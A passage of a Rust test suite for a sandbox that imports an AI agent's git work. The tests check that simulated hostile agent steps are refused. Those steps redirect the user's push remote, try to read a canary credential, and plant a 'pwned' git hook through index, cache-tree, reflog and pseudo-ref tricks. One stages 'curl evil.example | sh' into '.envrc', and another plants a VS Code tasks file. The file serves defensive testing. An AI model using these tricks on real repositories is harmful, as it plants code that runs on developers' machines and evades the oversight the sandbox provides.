/// warning or an error.
#[test]
fn git_gc_inside_a_step_is_no_news() {
    let env = project();
    env.write("b.txt", "b\n");
    env.git(&env.project, &["add", "b.txt"]);
    env.git(&env.project, &["commit", "-q", "-m", "second"]);
    env.envgit(&["record"]).ok();
    let out = env.envgit(&["run", "sh", "-c", "git gc -q 2>&1; echo gc=$?"]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert_eq!(out.stdout.trim(), "gc=0", "{}{}", out.stdout, out.stderr);
    assert!(!out.stderr.contains(".git/"), "{}", out.stderr);
    let step = env.log_json().pop().unwrap();
    assert!(!flags(&step).contains(&"git-dropped".to_string()), "{step}");
    env.git(&env.project, &["fsck", "--no-dangling"]);
    assert!(!env.path(".git/info/refs").exists());
}

/// The host's `git push` goes where the user set it: a step that points the existing remote's
/// push address elsewhere, makes it a mirror (a push then deletes what the user lacks), or
/// aims the branch at a remote of its own, changes none of that; its new remote arrives. The
/// user's own push then lands in the user's repository and nowhere else.
#[test]
fn the_hosts_push_still_goes_where_the_user_set_it() {
    let env = project();
    let bare = |name: &str| {
        let p = env.tmp.path().join(name);
        env.git(env.tmp.path(), &["init", "-q", "--bare", name]);
        p
    };
    let upstream = bare("upstream.git");
    let elsewhere = bare("elsewhere.git");
    let upstream_url = upstream.display().to_string();
    env.git(&env.project, &["remote", "add", "origin", &upstream_url]);
    env.git(&env.project, &["push", "-q", "-u", "origin", "main"]);
    let e = elsewhere.display();
    let attack = format!(
        "git remote set-url --push origin {e} && git config remote.origin.mirror true && \
         git remote add fork {e} && git config branch.main.pushremote fork && \
         git commit -q --allow-empty -m 'from the agent' && echo redirected"
    );
    let out = env.envgit(&["run", "sh", "-c", &attack]);
    assert!(
        out.stdout.contains("redirected"),
        "{}{}",
        out.stdout,
        out.stderr
    );
    let config = |key: &str| {
        let o = Command::new("git")
            .args(["config", "--get", key])
            .current_dir(&env.project)
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout).trim().to_owned()
    };
    assert_eq!(config("remote.origin.pushurl"), "");
    assert_eq!(config("remote.origin.mirror"), "");
    assert_eq!(config("branch.main.pushremote"), "");
    // The step's commit and its new remote are ordinary work: they arrive.
    assert_eq!(config("remote.fork.url"), elsewhere.display().to_string());
    // The user's push lands upstream; the other repository gets nothing.
    env.git(&env.project, &["push", "-q"]);
    assert_eq!(
        env.git(&upstream, &["log", "--format=%s", "main"]),
        "from the agent\nfirst\n"
    );
    assert_eq!(env.git(&elsewhere, &["for-each-ref"]), "");
    // And the step says what it did not take, and how to make the change if it is wanted.
    assert!(
        out.stderr.contains("config remote.origin.pushurl")
            && out.stderr.contains("where the host's `git push` sends"),
        "{}",
        out.stderr
    );
}

/// What the import writes into the host's `.git` is in the step's own snapshot: the step that
/// committed (new object directories, refs, logs, the index, a pack from `git gc`, a config
/// key) says so, and the next step finds no edit of the person's there. A one-shot step leaves
/// the host's `.git` without watches and reads again what the import wrote. What the person's
/// own git writes between steps is theirs, as before.
#[test]
fn what_the_import_writes_is_the_steps_and_the_persons_git_stays_theirs() {
    let env = project();
    let work = "for i in 1 2 3 4 5 6 7 8; do echo $i > f$i.txt; done && git add . && \
                git commit -q -m one && git tag -a v1 -m v1 && git gc -q && \
                echo more > g.txt && git add g.txt && git commit -q -m two && \
                git config user.name Agent && echo done";
    let out = env.envgit(&["run", "sh", "-c", work]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("done"), "{}", out.stdout);
    assert_eq!(
        env.git(&env.project, &["log", "--format=%s", "main"]),
        "two\none\nfirst\n"
    );
    let again = env.envgit(&["run", "true"]);
    assert_eq!(again.code, 0, "{}{}", again.stdout, again.stderr);
    assert!(
        !again.stderr.contains("your edits since"),
        "what the import wrote was left out of its step's snapshot: {}",
        again.stderr
    );
    // The person's own commit between steps is recorded as theirs.
    env.write("h.txt", "host\n");
    env.git(&env.project, &["add", "h.txt"]);
    env.git(&env.project, &["commit", "-q", "-m", "host"]);
    let after = env.envgit(&["run", "true"]);
    assert_eq!(after.code, 0, "{}{}", after.stdout, after.stderr);
    assert!(
        after.stderr.contains("your edits since") && after.stderr.contains(".git"),
        "{}",
        after.stderr
    );
}

/// A credential in the person's own git configuration (an `http.<url>.extraheader`) never
/// enters the sandbox: the step sees a placeholder in `~/.gitconfig`, also when it is a link
/// into a dotfiles directory (as GNU Stow or chezmoi's link mode leave it), and in the file
/// the person's `GIT_CONFIG_GLOBAL` or `XDG_CONFIG_HOME` names instead, or one it includes,
/// which the step can read by its path.
#[test]
fn a_credential_in_the_persons_git_configuration_stays_outside_wherever_it_is() {
    for how in [
        "plain",
        "linked",
        "GIT_CONFIG_GLOBAL",
        "XDG_CONFIG_HOME",
        "include",
    ] {
        let env = project();
        let home = env.user_home();
        std::fs::create_dir_all(home.join("dotfiles/git")).unwrap();
        let text = "[http \"https://example.invalid/\"]\n\
                    \textraheader = AUTHORIZATION: basic SECRETCANARY42\n";
        let mut step = env.cmd(&env.project);
        match how {
            "plain" => std::fs::write(home.join(".gitconfig"), text).unwrap(),
            "linked" => {
                std::fs::write(home.join("dotfiles/gitconfig"), text).unwrap();
                std::os::unix::fs::symlink("dotfiles/gitconfig", home.join(".gitconfig")).unwrap();
            }
            "include" => {
                std::fs::write(home.join("dotfiles/gitconfig"), text).unwrap();
                std::fs::write(
                    home.join(".gitconfig"),
                    "[include]\n\tpath = dotfiles/gitconfig\n",
                )
                .unwrap();
            }
            "GIT_CONFIG_GLOBAL" => {
                std::fs::write(home.join("dotfiles/gitconfig"), text).unwrap();
                step.env("GIT_CONFIG_GLOBAL", home.join("dotfiles/gitconfig"));
            }
            _ => {
                std::fs::write(home.join("dotfiles/git/config"), text).unwrap();
                step.env("XDG_CONFIG_HOME", home.join("dotfiles"));
            }
        }
        let ran = step
            .args([
                "run",
                "sh",
                "-c",
                "cat ~/.gitconfig ~/dotfiles/gitconfig ~/dotfiles/git/config 2>/dev/null; \
                 git config --global --list; echo done",
            ])
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&ran.stdout);
        let stderr = String::from_utf8_lossy(&ran.stderr);
        assert!(stdout.contains("done"), "{how}: {stderr}");
        assert!(
            !stdout.contains("SECRETCANARY42"),
            "{how}: the person's credential was readable inside:\n{stdout}"
        );
        assert!(stdout.contains("extraheader"), "{how}: {stdout}");
    }
}

/// Rewrites, inside a step, the path of the index entry `from` to `to` (the same length, so
/// the entry's size and order stay) and fixes the index's checksum: git itself never lets
/// such a path into an index, but reads one it finds there without a check.
fn retarget_index_entry(from: &str, to: &str) -> String {
    assert_eq!(from.len(), to.len());
    format!(
        "/usr/bin/python3 -c \"import hashlib; d=open('.git/index','rb').read()[:-20]; \
         d=d.replace(b'{from}', b'{to}'); \
         open('.git/index','wb').write(d+hashlib.sha1(d).digest())\""
    )
}

/// A step stages a file, then renames its index entry `.git/hooks/pre-commit` (the blob is
/// genuine). Imported as data, the host's `git status` showed `AD .git/hooks/pre-commit`, the
/// person's `git restore .` wrote the hook, executable, and their next commit ran it. The
/// index is refused whole; the step's commit still arrives.
#[test]
fn an_index_entry_at_a_path_git_never_allows_is_refused() {
    // A SHA-256 repository's index too: it is read with the hash size its configuration names.
    for object_format in ["sha1", "sha256"] {
        an_index_entry_at_a_path_git_never_allows_is_refused_in(object_format);
    }
}

fn an_index_entry_at_a_path_git_never_allows_is_refused_in(object_format: &str) {
    let env = project_in("files", object_format);
    let marker = env.tmp.path().join("MARKER");
    let name = "-aaaaaaaaaaaaaaaaaaaa"; // as long as `.git/hooks/pre-commit`, sorted first
    let script = format!(
        "echo c > c.txt && git add c.txt && git commit -q -m agent && \
         printf '#!/bin/sh\\necho pwned >> {m}\\n' > ./{name} && chmod +x ./{name} && \
         git add -- ./{name} && rm -- ./{name} && {rewrite} && git ls-files && echo staged",
        m = marker.display(),
        rewrite = retarget_index_entry(name, ".git/hooks/pre-commit"),
    );
    let out = env.envgit(&["run", "sh", "-c", &script]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains("staged") && out.stdout.contains(".git/hooks/pre-commit"),
        "{}",
        out.stdout
    );
    let step = env.log_json()[0].clone();
    // The person's git, as they run it next.
    let _ = env.host_git(&env.project).args(["restore", "."]).output();
    let _ = env
        .host_git(&env.project)
        .args(["checkout-index", "-a", "-f"])
        .output();
    assert!(
        !env.path(".git/hooks/pre-commit").exists(),
        "the host's git wrote the agent's hook"
    );
    env.host_commit_runs_no_planted_hook(&marker);

    assert!(
        out.stderr.contains(".git/index was not imported")
            && out.stderr.contains("verify_path")
            && out.stderr.contains("rule git.data-only"),
        "{}",
        out.stderr
    );
    assert!(flags(&step).contains(&"git_dropped".to_string()), "{step}");
    // The commit arrived; the index did not.
    assert!(
        env.git(&env.project, &["log", "--format=%s"])
            .contains("agent\n"),
        "the step's commit did not arrive"
    );
    assert!(!env.git(&env.project, &["ls-files"]).contains(".git/"));
}

/// A project whose husky hook is committed and run by the host's git
/// (`core.hooksPath=.husky`), and a `.envrc`, both protected paths.
fn project_with_husky() -> Env {
    project_with_husky_in("files")
}

/// [`project_with_husky`] with its refs kept the way `ref_format` says.
fn project_with_husky_in(ref_format: &str) -> Env {
    let env = project_with(ref_format);
    std::fs::create_dir_all(env.path(".husky")).unwrap();
    env.write(".husky/pre-commit", "#!/bin/sh\nexit 0\n");
    std::fs::set_permissions(
        env.path(".husky/pre-commit"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    env.write(".envrc", "export A=1\n");
    env.git(&env.project, &["add", ".husky/pre-commit", ".envrc"]);
    env.git(&env.project, &["commit", "-q", "-m", "husky"]);
    env.git(&env.project, &["config", "core.hooksPath", ".husky"]);
    env.envgit(&["record"]).ok();
    env
}

/// A step writes its own blob for `.husky/pre-commit` (`git hash-object -w`), stages it
/// (`git update-index --cacheinfo`) and commits; the working tree's file is never touched, so
/// the put-back has nothing to do. Imported as data, the host's `git status` showed
/// ` M .husky/pre-commit`, the person's `git stash` wrote the agent's hook and their next
/// commit ran it. The step's refs and index stay out, naming the rule.
#[test]
fn a_commit_that_changes_a_protected_path_behind_the_worktree_is_refused() {
    let env = project_with_husky();
    let marker = env.tmp.path().join("MARKER");
    let script = format!(
        "id=$(printf '#!/bin/sh\\necho pwned >> {m}\\n' | git hash-object -w --stdin) && \
         git update-index --cacheinfo 100755,$id,.husky/pre-commit && \
         git commit -q -m 'agent' && echo committed",
        m = marker.display()
    );
    let out = env.envgit(&["run", "sh", "-c", &script]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("committed"), "{}", out.stdout);
    let status = env.git(&env.project, &["status", "--short", "--untracked-files=no"]);
    let step = env.log_json()[0].clone();

    // The person's git, as they run it next.
    let _ = env.host_git(&env.project).args(["stash"]).output();
    let _ = env
        .host_git(&env.project)
        .args(["reset", "-q", "--hard"])
        .output();
    assert_eq!(
        env.read(".husky/pre-commit"),
        "#!/bin/sh\nexit 0\n",
        "the host's git wrote the agent's hook (status was {status:?})"
    );
    env.host_commit_runs_no_planted_hook(&marker);

    assert_eq!(status, "");
    assert!(
        out.stderr.contains(".husky/pre-commit")
            && out.stderr.contains("protected path")
            && out.stderr.contains("rule git.data-only"),
        "{}",
        out.stderr
    );
    assert!(flags(&step).contains(&"git_dropped".to_string()), "{step}");
}

/// A shell script's start that makes the agent's commit without moving `HEAD` or touching the
/// index (a tree from a scratch index, its hook in `.husky/pre-commit`, which appends to
/// `marker`), leaving `$c` its id, `$h` the commit `HEAD` names and `$who` an identity.
fn agents_commit_script(marker: &std::path::Path) -> String {
    format!(
        "export GIT_INDEX_FILE=$PWD/.scratch-index && git read-tree HEAD && \
         id=$(printf '#!/bin/sh\\necho pwned >> {m}\\n' | git hash-object -w --stdin) && \
         git update-index --cacheinfo 100755,$id,.husky/pre-commit && \
         c=$(git commit-tree $(git write-tree) -p HEAD -m agent) && rm .scratch-index && \
         unset GIT_INDEX_FILE && h=$(git rev-parse HEAD) && \
         who='A <a@example.invalid> 1700000000 +0000' && ",
        m = marker.display()
    )
}

/// Each of `plants` (what it plants, the script that names the agent's commit there, the
/// person's undo) in a fresh husky project of `ref_format`: a step makes the agent's commit
/// ([`agents_commit_script`]) and plants it, the person's git runs the undo. Returns the
/// plants whose undo wrote the agent's hook; for the others, checks that the person's next
/// commit runs no planted hook and that the step said why its refs stayed out (naming what
/// it planted when `names_the_file`).
fn plant_then_undo(
    ref_format: &str,
    plants: &[(&str, &str, &[&str])],
    names_the_file: bool,
) -> Vec<String> {
    let mut wrote = Vec::new();
    for (what, plant, undo) in plants {
        let env = project_with_husky_in(ref_format);
        env.git(&env.project, &["branch", "-M", "main"]);
        let marker = env.tmp.path().join("MARKER");
        let script = format!("{}{plant} && echo planted", agents_commit_script(&marker));
        let out = env.envgit(&["run", "sh", "-c", &script]);
        assert_eq!(out.code, 0, "{what}: {}{}", out.stdout, out.stderr);
        assert!(out.stdout.contains("planted"), "{what}: {}", out.stdout);
        // The person's undo, as they run it next; it may legitimately go back past the
        // hook's first commit.
        let _ = env.host_git(&env.project).args(*undo).output();
        let hook = std::fs::read_to_string(env.path(".husky/pre-commit")).unwrap_or_default();
        if hook.contains("pwned") {
            wrote.push(format!("{what}: the host's `git {}`", undo.join(" ")));
            continue;
        }
        env.host_commit_runs_no_planted_hook(&marker);
        assert!(
            (!names_the_file || out.stderr.contains(what))
                && out.stderr.contains("protected path")
                && out.stderr.contains("rule git.data-only"),
            "{what}: {}",
            out.stderr
        );
    }
    wrote
}

/// The same commit named not by a ref but by what git keeps beside them: `ORIG_HEAD` (the
/// person's `git reset --hard ORIG_HEAD`, git's own "undo"), a line of `HEAD`'s reflog
/// (`git reset --hard HEAD@{1}`) or of a branch's (`main@{1}`), `FETCH_HEAD`, `MERGE_HEAD`.
/// Each was imported as data, and each undo wrote the agent's hook. Now what each names is
/// judged as a ref's commit is, and they stay out with the refs.
#[test]
fn a_pseudo_ref_or_reflog_naming_a_protected_change_stays_out() {
    let plants: [(&str, &str, &[&str]); 5] = [
        (
            "ORIG_HEAD",
            "echo $c > .git/ORIG_HEAD",
            &["reset", "-q", "--hard", "ORIG_HEAD"],
        ),
        (
            "logs/HEAD",
            "printf '%s %s %s\\tagent\\n%s %s %s\\tback\\n' $h $c \"$who\" $c $h \"$who\" \
             >> .git/logs/HEAD",
            &["reset", "-q", "--hard", "HEAD@{1}"],
        ),
        (
            "logs/refs/heads/main",
            "printf '%s %s %s\\tagent\\n%s %s %s\\tback\\n' $h $c \"$who\" $c $h \"$who\" \
             >> .git/logs/refs/heads/main",
            &["reset", "-q", "--hard", "main@{1}"],
        ),
        (
            "FETCH_HEAD",
            "printf '%s\\t\\tbranch main of elsewhere\\n' $c > .git/FETCH_HEAD",
            &["reset", "-q", "--hard", "FETCH_HEAD"],
        ),
        (
            "MERGE_HEAD",
            "echo $c > .git/MERGE_HEAD",
            &["reset", "-q", "--hard", "MERGE_HEAD"],
        ),
    ];
    let wrote = plant_then_undo("files", &plants, true);
    assert!(wrote.is_empty(), "wrote the agent's hook: {wrote:#?}");

    // Ordinary work writes all of them and still arrives: commits, a reset that leaves
    // `ORIG_HEAD`, their reflog lines.
    let env = project_with_husky();
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "echo b > b.txt && git add b.txt && git commit -q -m one && echo c > c.txt && \
         git add c.txt && git commit -q -m two && git reset -q --soft HEAD~1 && echo done",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(!out.stderr.contains("protected path"), "{}", out.stderr);
    let head = env.git(&env.project, &["log", "-1", "--format=%s"]);
    assert_eq!(head.trim(), "one");
    let orig = env.git(&env.project, &["log", "-1", "--format=%s", "ORIG_HEAD"]);
    assert_eq!(orig.trim(), "two");
}

/// A reftable repository keeps `HEAD` and the reflogs in its tables: a detached `HEAD` the
/// step set to its commit (the person's `git reset --hard` writes it), and reflog entries
/// naming it while every ref ends where it was (`main@{1}`, `HEAD@{1}`).
#[test]
fn a_reftable_head_or_reflog_naming_a_protected_change_stays_out() {
    let plants: [(&str, &str, &[&str]); 3] = [
        (
            "detached HEAD",
            "git update-ref --no-deref HEAD $c",
            &["reset", "-q", "--hard"],
        ),
        (
            "main's reflog",
            "git update-ref -m agent refs/heads/main $c && git update-ref -m back refs/heads/main $h",
            &["reset", "-q", "--hard", "main@{1}"],
        ),
        (
            "HEAD's reflog",
            "git update-ref -m agent refs/heads/main $c && git update-ref -m back refs/heads/main $h",
            &["reset", "-q", "--hard", "HEAD@{1}"],
        ),
    ];
    let wrote = plant_then_undo("reftable", &plants, false);
    assert!(wrote.is_empty(), "wrote the agent's hook: {wrote:#?}");
}

/// The same behind a staged entry alone: `.envrc` (which direnv runs) changed in the index
/// only; the person's `git checkout -- .` would write it.
#[test]
fn an_index_that_changes_a_protected_path_behind_the_worktree_is_refused() {
    let env = project_with_husky();
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "id=$(echo 'curl evil.example | sh' | git hash-object -w --stdin) && \
         git update-index --cacheinfo 100644,$id,.envrc && echo b > b.txt && git add b.txt && \
         echo staged",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("staged"), "{}", out.stdout);
    let _ = env
        .host_git(&env.project)
        .args(["checkout", "--", "."])
        .output();
    assert_eq!(
        env.read(".envrc"),
        "export A=1\n",
        "the host's git wrote the agent's .envrc"
    );
    assert!(
        out.stderr.contains(".git/index was not imported")
            && out.stderr.contains(".envrc")
            && out.stderr.contains("rule git.data-only"),
        "{}",
        out.stderr
    );

    // Ordinary work beside protected paths still arrives: a commit that leaves them as the
    // index had them.
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "echo b > b.txt && git add b.txt && git commit -q -m ordinary && echo committed",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(!out.stderr.contains("protected path"), "{}", out.stderr);
    assert_eq!(
        env.git(&env.project, &["log", "-1", "--format=%s"]),
        "ordinary\n"
    );
}

/// An index whose entries hold the protected paths as they were, naming the agent's version
/// another way the host's git reads. Imported as data: the cache-tree's node for `.husky`
/// (git's `commit` takes a valid node's tree without reading the entries, and `git status`
/// compares by it too, so nothing showed) put the agent's hook in the person's next commit,
/// and a checkout away and back wrote it; a resolve-undo record gave it to the person's
/// `git checkout -m`; a sparse index's directory entry for `.github/` (git expands it where
/// sparse checkout is off) put the agent's `.github/hooks` in the person's next commit.
#[test]
fn an_index_naming_a_protected_change_another_way_stays_out() {
    let evil_blob =
        "b=$(printf '#!/bin/sh\\necho pwned >> \"$M\"\\n' | git hash-object -w --stdin)";
    // What each case plants, how, the person's git after it, and what the refusal names.
    let cases: [(&str, String, &[&[&str]], &str); 3] = [
        (
            "the cache-tree",
            format!(
                "{evil_blob} && t=$(printf '100755 blob %s\\tpre-commit\\n' $b | git mktree) && \
                 git write-tree > /dev/null && python3 $P tree .husky $t"
            ),
            &[
                &["add", "a.txt"],
                &["commit", "-q", "-m", "person"],
                &["checkout", "-q", "HEAD~1"],
                &["checkout", "-q", "main"],
            ],
            "its cache-tree gives `.husky` a tree its entries do not make",
        ),
        (
            "a resolve-undo record",
            format!("{evil_blob} && python3 $P reuc .husky/pre-commit $b"),
            &[&["checkout", "-m", "--", ".husky/pre-commit"]],
            "it changes `.husky/pre-commit`, a protected path",
        ),
        (
            "a sparse directory entry",
            format!(
                "{evil_blob} && h=$(printf '100644 blob %s\\thooks.json\\n' $b | git mktree) && \
                 g=$(printf '040000 tree %s\\thooks\\n' $h | git mktree) && \
                 r=$( (git ls-tree HEAD; printf '040000 tree %s\\t.github\\n' $g) | git mktree) && \
                 git sparse-checkout set --cone --sparse-index .husky src && \
                 git read-tree -m HEAD $r && git ls-files --sparse | grep -qx .github/"
            ),
            &[
                &["add", "a.txt"],
                &["commit", "-q", "-m", "person"],
                &["checkout", "-q", "HEAD~1"],
                &["checkout", "-q", "main"],
            ],
            "it changes `.github/`, a protected path",
        ),
    ];
    let mut wrote = Vec::new();
    for (what, plant, person, why) in cases {
        let env = project_with_husky();
        let marker = env.tmp.path().join("MARKER");
        // The agent's tool, beside its work.
        env.write("patch_index.py", PATCH_INDEX);
        let script = format!(
            "M={m} && P=patch_index.py && {plant} && echo planted",
            m = marker.display()
        );
        let out = env.envgit(&["run", "sh", "-c", &script]);
        let (stdout, stderr) = (out.stdout, out.stderr);
        assert_eq!(out.code, 0, "{what}: {stdout}{stderr}");
        assert!(stdout.contains("planted"), "{what}: {stdout}{stderr}");
        // The person's git, as they run it next.
        env.write("a.txt", "the person's edit\n");
        for args in person {
            let _ = env.host_git(&env.project).args(*args).output();
        }
        let grep = env
            .host_git(&env.project)
            .args(["grep", "-l", "pwned", "HEAD", "--"])
            .output()
            .unwrap();
        let committed = String::from_utf8_lossy(&grep.stdout).into_owned();
        let on_disk: Vec<&str> = [".husky/pre-commit", ".github/hooks/hooks.json"]
            .into_iter()
            .filter(|p| std::fs::read_to_string(env.path(p)).is_ok_and(|c| c.contains("pwned")))
            .collect();
        if !committed.trim().is_empty() || !on_disk.is_empty() {
            wrote.push(format!(
                "{what}: committed {committed:?}, written {on_disk:?}"
            ));
            continue;
        }
        env.host_commit_runs_no_planted_hook(&marker);
        assert!(
            stderr.contains(".git/index was not imported")
                && stderr.contains(why)
                && stderr.contains("rule git.data-only"),
            "{what}: {stderr}"
        );
    }
    assert!(
        wrote.is_empty(),
        "the host's git took the agent's version: {wrote:#?}"
    );
}

/// The names the tools that run them find in any folder (`.vscode`, `.claude`, `.mcp.json`,
/// `rust-toolchain.toml`, …: VS Code runs a subfolder's `tasks.json` when it is opened) are put
/// back below the root as at it, and the host's git may not write them either. A step that
/// committed, or only staged, `packages/web/.vscode/tasks.json` in a directory that was there
/// had its commit imported: the put-back removed the file, the person's `git reset --hard` (or
/// `git checkout -- .`) wrote the agent's. A new package's own configuration still arrives.
#[test]
fn a_commit_or_index_naming_a_protected_name_below_the_root_stays_out() {
    let tasks = "packages/web/.vscode/tasks.json";
    let cases: [(&str, &str, &[&str]); 2] = [
        ("a staged entry", "true", &["checkout", "--", "."]),
        (
            "a commit",
            "git commit -q -m agent",
            &["reset", "-q", "--hard"],
        ),
    ];
    for (what, then, person) in cases {
        let env = project();
        env.write("packages/web/index.js", "x\n");
        env.git(&env.project, &["add", "packages"]);
        env.git(&env.project, &["commit", "-q", "-m", "web"]);
        env.envgit(&["record"]).ok();
        let out = env.envgit(&[
            "run",
            "sh",
            "-c",
            &format!(
                "mkdir -p packages/web/.vscode && echo '{{\"pwned\": 1}}' > {tasks} && \
                 git add {tasks} && {then} && echo done"
            ),
        ]);
        assert_eq!(out.code, 0, "{what}: {}{}", out.stdout, out.stderr);
        assert!(out.stdout.contains("done"), "{what}: {}", out.stdout);
        let _ = env.host_git(&env.project).args(person).output();
        assert!(
            !env.path(tasks).exists(),
            "{what}: the host's `git {}` wrote the agent's {tasks}",
            person.join(" ")
        );
        assert!(
            out.stderr.contains(tasks)
                && out.stderr.contains("protected path")
                && out.stderr.contains("rule git.data-only"),
            "{what}: {}",
            out.stderr
        );
    }

    // A package the step made, with its own editor configuration, arrives whole.
    let env = project();
    let out = env.envgit(&[
        "run",
        "sh",
        "-c",
        "mkdir -p new/.vscode && echo '{}' > new/.vscode/settings.json && echo n > new/n.js && \
         git add new && git commit -q -m new && echo done",
    ]);
    assert_eq!(out.code, 0, "{}{}", out.stdout, out.stderr);
    assert!(!out.stderr.contains("protected path"), "{}", out.stderr);
    assert_eq!(
        env.git(&env.project, &["log", "-1", "--format=%s"]),
        "new\n"
    );
}
